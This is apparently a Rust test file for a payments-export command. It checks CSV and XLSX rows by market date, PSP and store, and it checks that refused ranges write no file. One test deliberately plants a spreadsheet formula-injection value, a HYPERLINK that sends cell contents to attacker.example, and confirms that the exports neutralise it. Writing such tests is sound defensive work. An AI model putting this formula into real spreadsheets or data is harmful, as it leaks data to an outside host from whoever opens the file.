//! `voucherdesk export`: payments and settlement rows by market date (each
//! market's own clock), PSP, market and store, for finance to compare with the
//! PSPs' reports; refused ranges write nothing.

use crate::support;

use support::{Ctx, stderr, stdout};

fn imported() -> Ctx {
    let ctx = Ctx::new();
    ctx.import_recon_set();
    ctx
}

/// The data rows of an export (the header and the BOM checked and dropped).
fn rows(ctx: &Ctx, file: &str, header: &str) -> Vec<String> {
    let text = std::fs::read_to_string(ctx.path(file)).expect("the export exists");
    let text = text.strip_prefix('\u{FEFF}').expect("a UTF-8 BOM for spreadsheets");
    let mut lines = text.lines().map(str::to_string);
    assert_eq!(lines.next().as_deref(), Some(header));
    lines.collect()
}

fn ids(rows: &[String], column: usize) -> Vec<String> {
    rows.iter().map(|r| r.split(',').nth(column).unwrap_or_default().to_string()).collect()
}

const PAYMENT_HEADER: &str = "market_date,psp,payment_id,order_id,store,country,network,status,psp_status,amount,currency,\
created_at_utc,paid_at_utc,expires_at_utc,voucher_code";
const SETTLEMENT_HEADER: &str = "market_date,psp,row_type,payment_id,order_id,store,local_amount,local_currency,fx_rate,\
settlement_currency,gross,fee,net,created_at_utc";

#[test]
fn payments_are_dated_by_the_markets_own_clock() {
    let ctx = imported();
    let out = ctx.path("all.csv");
    let printed = stdout(
        &ctx.ok(["export", "payments", "--from", "2026-03-01", "--to", "2026-03-31", "--out"]
            .map(Into::into)
            .into_iter()
            .chain([out.clone().into_os_string()])),
    );
    assert_eq!(printed.trim(), format!("{}: 20 row(s)", out.display()));
    let all = rows(&ctx, "all.csv", PAYMENT_HEADER);
    assert_eq!(all.len(), 20, "18 dLocal and 2 PagoEfectivo payments");
    assert_eq!(
        all[0],
        "2026-03-05,dlocal,D-001,R-001,Tienda Ñandú,CO,efecty,paid,PAID,150000.00,COP,2026-03-05T14:00:00Z,\
2026-03-05T20:00:00Z,2026-03-08T14:00:00Z,4000000001"
    );
    // D-013 was paid 2026-03-17 02:00 UTC, the 16th in Bogotá; D-009 on the
    // 19th at 04:29 UTC, still the 18th there; D-014 at 05:00 UTC, the 17th.
    ctx.ok(["export", "payments", "--from", "2026-03-17", "--to", "2026-03-17", "--out", "day17.csv"]
        .map(|a| if a == "day17.csv" { ctx.path(a).into_os_string() } else { a.into() }));
    assert_eq!(ids(&rows(&ctx, "day17.csv", PAYMENT_HEADER), 2), ["D-014"]);
    ctx.ok(["export", "payments", "--from", "2026-03-16", "--to", "2026-03-16", "--out", "day16.csv"]
        .map(|a| if a == "day16.csv" { ctx.path(a).into_os_string() } else { a.into() }));
    assert_eq!(ids(&rows(&ctx, "day16.csv", PAYMENT_HEADER), 2), ["D-004", "D-013"], "unpaid D-004 by its creation");
    let day18 = ctx.json(
        ["export", "payments", "--from", "2026-03-18", "--to", "2026-03-18", "--json", "--out"]
            .map(Into::into)
            .into_iter()
            .chain([ctx.path("day18.csv").into_os_string()]),
    );
    assert_eq!(day18["rows"], 12);
    assert!(ids(&rows(&ctx, "day18.csv", PAYMENT_HEADER), 2).contains(&"D-009".to_string()));
}

#[test]
fn payments_filter_by_market_psp_and_store() {
    let ctx = imported();
    let export = |name: &str, extra: &[&str]| {
        let mut args: Vec<std::ffi::OsString> =
            ["export", "payments", "--from", "2026-03-01", "--to", "2026-03-31"].map(Into::into).to_vec();
        args.extend(extra.iter().map(Into::into));
        args.extend(["--out".into(), ctx.path(name).into_os_string()]);
        ctx.ok(args);
        rows(&ctx, name, PAYMENT_HEADER)
    };
    assert_eq!(ids(&export("pe.csv", &["--market", "PE"]), 2), ["90000010", "90000017"]);
    assert_eq!(export("pe-psp.csv", &["--psp", "pagoefectivo"]).len(), 2);
    assert_eq!(export("co.csv", &["--market", "CO"]).len(), 18);
    let moda = export("moda.csv", &["--store", "Moda Andina"]);
    assert!(!moda.is_empty() && moda.iter().all(|r| r.split(',').nth(4) == Some("Moda Andina")), "{moda:?}");
}

#[test]
fn settlement_rows_are_dated_by_their_own_settlement_date() {
    let ctx = imported();
    let out = ctx.path("s.csv");
    ctx.ok(["export", "settlements", "--from", "2026-03-08", "--to", "2026-03-08", "--out"]
        .map(Into::into)
        .into_iter()
        .chain([out.into_os_string()]));
    let day = rows(&ctx, "s.csv", SETTLEMENT_HEADER);
    assert_eq!(
        day,
        [
            "2026-03-08,dlocal,PAYMENT,D-015,R-015,Moda Andina,140000.00,COP,4125.5,USD,33.94,1.02,32.92,2026-03-05T10:00:00Z",
            "2026-03-08,dlocal,PAYMENT,D-016,R-016,Moda Andina,150000.00,COP,4125.5,USD,36.36,1.09,35.00,2026-03-05T10:00:00Z"
        ]
    );
    let all = ctx.path("all.csv");
    ctx.ok(["export", "settlements", "--from", "2026-03-01", "--to", "2026-03-31", "--market", "PE", "--out"]
        .map(Into::into)
        .into_iter()
        .chain([all.into_os_string()]));
    assert_eq!(ids(&rows(&ctx, "all.csv", SETTLEMENT_HEADER), 3), ["90000017"]);
}

#[test]
fn refused_ranges_write_nothing_and_say_why() {
    let ctx = imported();
    let out = ctx.path("never.csv");
    let refused = ctx.fails_with(
        2,
        ["export", "payments", "--from", "2026-03-31", "--to", "2026-03-01", "--out"]
            .map(Into::into)
            .into_iter()
            .chain([out.clone().into_os_string()]),
    );
    assert!(
        stderr(&refused).contains("the export ends (2026-03-01) before it starts (2026-03-31) [exports.backwards]"),
        "{}",
        stderr(&refused)
    );
    let refused = ctx.fails_with(
        2,
        ["export", "payments", "--from", "2025-01-01", "--to", "2026-03-01", "--out"]
            .map(Into::into)
            .into_iter()
            .chain([out.clone().into_os_string()]),
    );
    assert!(stderr(&refused).contains("at most 366 market days; 425 asked [exports.too_long]"), "{}", stderr(&refused));
    let refused = ctx.fails_with(
        2,
        ["export", "payments", "--from", "2026-03-01", "--to", "2026-03-31", "--market", "MX", "--out"]
            .map(Into::into)
            .into_iter()
            .chain([out.clone().into_os_string()]),
    );
    assert!(stderr(&refused).contains("--market \"MX\": expected CO or PE"), "{}", stderr(&refused));
    assert!(!out.exists(), "a refused export leaves no file");
}

/// A part of an .xlsx file (a zip of XML parts), as text.
fn xlsx_part(path: &std::path::Path, part: &str) -> String {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).expect("the workbook exists")).expect("a zip");
    let mut text = String::new();
    zip.by_name(part).expect(part).read_to_string(&mut text).unwrap();
    text
}

#[test]
fn an_xlsx_export_holds_the_csvs_rows_with_numbers_as_numbers_and_text_never_a_formula() {
    let ctx = imported();
    // A store name a buyer-facing shop could have: a formula if it were one.
    let conn = rusqlite::Connection::open(&ctx.db).unwrap();
    conn.execute(
        "UPDATE orders SET store = '=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")' WHERE order_id = 'R-001'",
        [],
    )
    .unwrap();
    drop(conn);
    let export = |file: &str| {
        let out = ctx.path(file);
        let args = ["export", "payments", "--from", "2026-03-01", "--to", "2026-03-31", "--out"];
        stdout(&ctx.ok(args.map(Into::into).into_iter().chain([out.clone().into_os_string()])))
    };
    assert_eq!(export("all.csv").trim(), format!("{}: 20 row(s)", ctx.path("all.csv").display()));
    assert_eq!(export("all.xlsx").trim(), format!("{}: 20 row(s)", ctx.path("all.xlsx").display()));
    let csv_rows = rows(&ctx, "all.csv", PAYMENT_HEADER);
    assert!(csv_rows[0].contains(",\"'=HYPERLINK("), "the CSV neutralises it: {}", csv_rows[0]);

    let sheet = xlsx_part(&ctx.path("all.xlsx"), "xl/worksheets/sheet1.xml");
    // Written in constant memory: strings are inline in the sheet.
    let strings = &sheet;
    assert_eq!(sheet.matches("<row ").count(), 21, "the header and 20 rows, as in the CSV");
    assert!(!sheet.contains("<f>"), "no formula in any cell");
    // The store name is a string, as typed (a string cell is never evaluated).
    assert!(
        strings.contains(
            r#"<c r="E2" t="inlineStr"><is><t>=HYPERLINK("http://attacker.example/?"&amp;A1,"Click")</t></is></c>"#
        ),
        "{strings}"
    );
    assert!(strings.contains("<t>Librería Cóndor</t>"), "accents are kept");
    // D-001's 150000.00 COP is a number cell finance can add up.
    assert!(sheet.contains(r#"<c r="J2" s="1"><v>150000</v></c>"#), "amounts are numbers");
    assert!(sheet.contains(r#"<c r="J21" s="1"><v>1234.5</v></c>"#), "1,234.50 PEN too");
    let header: Vec<&str> = PAYMENT_HEADER.split(',').collect();
    for name in header {
        assert!(strings.contains(&format!(">{name}<")), "header {name}");
    }
}
